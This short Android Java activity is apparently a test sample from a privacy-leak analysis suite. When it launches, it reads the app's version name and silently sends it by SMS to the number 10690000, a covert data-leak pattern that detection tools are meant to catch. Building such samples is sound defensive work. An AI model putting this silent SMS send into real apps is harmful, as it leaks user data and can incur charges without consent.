package cn.privlens.suite.installed_apps_own;

import android.app.Activity;
import android.content.pm.PackageInfo;
import android.content.pm.PackageManager;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        PackageManager pm = getPackageManager();
        StringBuilder sb = new StringBuilder();
        try {
            PackageInfo own = pm.getPackageInfo(getPackageName(), 0);
            sb.append(own.versionName);
        } catch (Exception e) {
            sb.append('?');
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, sb.toString(), null, null);
    }
}
